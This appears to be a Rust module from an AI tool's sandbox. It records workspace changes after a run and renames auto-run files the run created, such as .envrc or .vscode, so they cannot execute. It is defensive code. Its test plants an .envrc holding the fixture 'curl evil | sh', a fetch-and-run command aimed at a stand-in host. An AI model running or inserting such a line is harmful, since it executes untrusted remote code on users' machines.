//! What a sandbox run did to the workspace folder, and what it may not do. Before a run the folder
//! is looked at (names, sizes, times; never inside the places below); the places the host runs by
//! itself later — a git folder (its hooks and config), `.envrc`, editor and devcontainer tasks,
//! package-manager settings — are mounted read-only in the sandbox. After the run the folder is
//! looked at again: the result lists what was created, changed and deleted, and such a place the
//! run created anew is renamed (`.envrc` → `.envrc.from-sandbox`), so nothing runs and nothing
//! is lost.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

/// Names the host acts on by itself, wherever they are in the folder.
pub(crate) const PROTECTED: &[&str] = &[
    ".git",
    ".envrc",
    ".vscode",
    ".idea",
    ".devcontainer",
    ".husky",
    ".pre-commit-config.yaml",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
];

/// Most entries looked at; a bigger folder's changes are not listed (the protection holds).
const MAX_ENTRIES: usize = 200_000;
/// Most paths named per kind of change in a result.
const MAX_NAMED: usize = 40;

fn is_protected(name: &std::ffi::OsStr) -> bool {
    PROTECTED.iter().any(|p| name == *p)
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    dir: bool,
    link: bool,
    len: u64,
    modified: Option<SystemTime>,
}

/// The folder at one moment.
#[derive(Debug, Clone, Default)]
pub(crate) struct Snapshot {
    entries: BTreeMap<PathBuf, Entry>,
    /// Protected places found (never entered), relative to the folder.
    protected: Vec<PathBuf>,
    /// Whether every entry was looked at (not past `MAX_ENTRIES`).
    complete: bool,
}

impl Snapshot {
    /// Looks at `root` (blocking). Links are noted, never followed.
    pub(crate) fn take(root: &Path) -> Self {
        let mut snapshot = Self {
            complete: true,
            ..Self::default()
        };
        let mut stack = vec![PathBuf::new()];
        while let Some(rel) = stack.pop() {
            let Ok(read) = std::fs::read_dir(root.join(&rel)) else {
                continue;
            };
            for item in read.flatten() {
                let path = rel.join(item.file_name());
                let Ok(meta) = std::fs::symlink_metadata(root.join(&path)) else {
                    continue;
                };
                let entry = Entry {
                    dir: meta.is_dir(),
                    link: meta.file_type().is_symlink(),
                    len: if meta.is_dir() { 0 } else { meta.len() },
                    modified: meta.modified().ok(),
                };
                if is_protected(&item.file_name()) {
                    // Not entered: it is read-only in the sandbox. A link is not mounted over
                    // (that would reach where it points), only watched.
                    if !entry.link {
                        snapshot.protected.push(path.clone());
                    }
                } else if entry.dir {
                    stack.push(path.clone());
                }
                if snapshot.entries.len() >= MAX_ENTRIES {
                    snapshot.complete = false;
                    continue;
                }
                snapshot.entries.insert(path, entry);
            }
        }
        snapshot.protected.sort();
        snapshot
    }

    /// The bytes of every file looked at.
    pub(crate) fn bytes(&self) -> u64 {
        self.entries.values().map(|e| e.len).sum()
    }

    /// The protected places to mount read-only.
    pub(crate) fn protected(&self) -> Vec<PathBuf> {
        self.protected.clone()
    }
}

/// What one run did.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Changes {
    pub created: Vec<PathBuf>,
    pub changed: Vec<PathBuf>,
    pub deleted: Vec<PathBuf>,
    /// Protected places the run made, and the names they were renamed to.
    pub set_aside: Vec<(PathBuf, PathBuf)>,
    /// Whether the lists are whole.
    pub complete: bool,
    /// Protected places there now that were not before (or were a link before).
    made: Vec<PathBuf>,
    /// Such places that could not be renamed.
    pub stuck: Vec<PathBuf>,
    /// The run was stopped: the folder grew by the first number of bytes, past the second.
    pub stopped_at: Option<(u64, u64)>,
}

impl Changes {
    /// The differences between two looks at the same folder (folders that only changed their
    /// time, because something in them changed, are left out).
    pub(crate) fn between(before: &Snapshot, after: &Snapshot) -> Self {
        let mut changes = Self {
            complete: before.complete && after.complete,
            made: after
                .protected
                .iter()
                .filter(|p| !before.protected.contains(p))
                .cloned()
                .collect(),
            ..Self::default()
        };
        for (path, now) in &after.entries {
            match before.entries.get(path) {
                None => changes.created.push(path.clone()),
                Some(then) if then.dir && now.dir => {}
                Some(then) if then != now => changes.changed.push(path.clone()),
                Some(_) => {}
            }
        }
        for path in before.entries.keys() {
            if !after.entries.contains_key(path) {
                changes.deleted.push(path.clone());
            }
        }
        // Inside a new or deleted folder only the folder is named.
        let tops = |list: &mut Vec<PathBuf>| {
            let all = std::mem::take(list);
            for path in &all {
                if !all
                    .iter()
                    .any(|other| other != path && path.starts_with(other))
                {
                    list.push(path.clone());
                }
            }
        };
        tops(&mut changes.created);
        tops(&mut changes.deleted);
        changes
    }

    /// Renames every protected place the run created (blocking): `x` becomes
    /// `x.from-sandbox` (or `x.from-sandbox-2` …), which the host never acts on.
    pub(crate) fn set_aside(&mut self, root: &Path) {
        for place in std::mem::take(&mut self.made) {
            let Some(name) = place.file_name().map(|n| n.to_string_lossy().into_owned()) else {
                continue;
            };
            let free = (1..100)
                .map(|i| {
                    let suffix = if i == 1 {
                        String::new()
                    } else {
                        format!("-{i}")
                    };
                    place.with_file_name(format!("{name}.from-sandbox{suffix}"))
                })
                .find(|to| std::fs::symlink_metadata(root.join(to)).is_err());
            let renamed = free.map(|to| (std::fs::rename(root.join(&place), root.join(&to)), to));
            match renamed {
                Some((Ok(()), to)) => self.set_aside.push((place, to)),
                other => {
                    tracing::warn!(place = %place.display(), ?other, "cannot set aside what the sandbox made");
                    self.stuck.push(place);
                }
            }
        }
    }

    /// Whether the run changed nothing.
    pub(crate) fn is_empty(&self) -> bool {
        self.created.is_empty() && self.changed.is_empty() && self.deleted.is_empty()
    }

    /// The lines for the tool's result (and card).
    pub(crate) fn describe(&self) -> String {
        let list = |paths: &[PathBuf]| {
            let mut names: Vec<String> = paths
                .iter()
                .take(MAX_NAMED)
                .map(|p| p.display().to_string())
                .collect();
            if paths.len() > MAX_NAMED {
                names.push(format!("and {} more", paths.len() - MAX_NAMED));
            }
            names.join(", ")
        };
        let mut out = String::new();
        if let Some((grown, limit)) = self.stopped_at {
            out.push_str(&format!(
                "\nSTOPPED: the run made the workspace grow by {} MiB, past the {} MiB a run may \
                 (sandbox.workspace_growth_mib); its processes were killed",
                grown >> 20,
                limit >> 20
            ));
        }
        out.push_str("\nworkspace changes:");
        if self.is_empty() {
            out.push_str(" none");
        }
        for (label, paths) in [
            ("created", &self.created),
            ("changed", &self.changed),
            ("deleted", &self.deleted),
        ] {
            if !paths.is_empty() {
                out.push_str(&format!("\n  {label}: {}", list(paths)));
            }
        }
        for (place, to) in &self.set_aside {
            out.push_str(&format!(
                "\n  set aside: {} is something the host would run by itself; it was renamed to {}",
                place.display(),
                to.display()
            ));
        }
        for place in &self.stuck {
            out.push_str(&format!(
                "\n  WARNING: {} was made by the sandbox and is something the host would run by \
                 itself; it could not be renamed: look at it before you work in this folder",
                place.display()
            ));
        }
        if !self.complete {
            out.push_str(&format!(
                "\n  (the folder has more than {MAX_ENTRIES} entries; the lists may be short)"
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_run_is_described_and_new_auto_run_places_are_set_aside() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(root.join("src/old")).unwrap();
        std::fs::write(root.join("src/old/a.txt"), "a").unwrap();
        std::fs::write(root.join("data.csv"), "1,2").unwrap();
        std::fs::write(root.join(".envrc.from-sandbox"), "earlier").unwrap();
        let before = Snapshot::take(root);
        assert_eq!(before.protected(), vec![PathBuf::from(".git")]);
        assert!(!before.entries.keys().any(|p| p.starts_with(".git/hooks")));

        std::fs::remove_dir_all(root.join("src/old")).unwrap();
        std::fs::write(root.join("data.csv"), "1,2,3").unwrap();
        std::fs::create_dir_all(root.join("out/deep")).unwrap();
        std::fs::write(root.join("out/deep/r.txt"), "r").unwrap();
        std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(root.join("sub/.vscode")).unwrap();
        std::fs::write(root.join("sub/.vscode/tasks.json"), "{}").unwrap();
        let after = Snapshot::take(root);
        let mut changes = Changes::between(&before, &after);
        assert_eq!(
            changes.created,
            vec![
                PathBuf::from(".envrc"),
                PathBuf::from("out"),
                PathBuf::from("sub")
            ]
        );
        assert_eq!(changes.changed, vec![PathBuf::from("data.csv")]);
        assert_eq!(changes.deleted, vec![PathBuf::from("src/old")]);
        changes.set_aside(root);
        assert_eq!(
            changes.set_aside,
            vec![
                (
                    PathBuf::from(".envrc"),
                    PathBuf::from(".envrc.from-sandbox-2")
                ),
                (
                    PathBuf::from("sub/.vscode"),
                    PathBuf::from("sub/.vscode.from-sandbox")
                ),
            ]
        );
        assert!(!root.join(".envrc").exists() && !root.join("sub/.vscode").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.from-sandbox-2")).unwrap(),
            "curl evil | sh"
        );
        let text = changes.describe();
        assert!(text.contains("created: .envrc, out, sub"), "{text}");
        assert!(
            text.contains("changed: data.csv") && text.contains("deleted: src/old"),
            "{text}"
        );
        assert!(
            text.contains("renamed to sub/.vscode.from-sandbox"),
            "{text}"
        );
    }
}
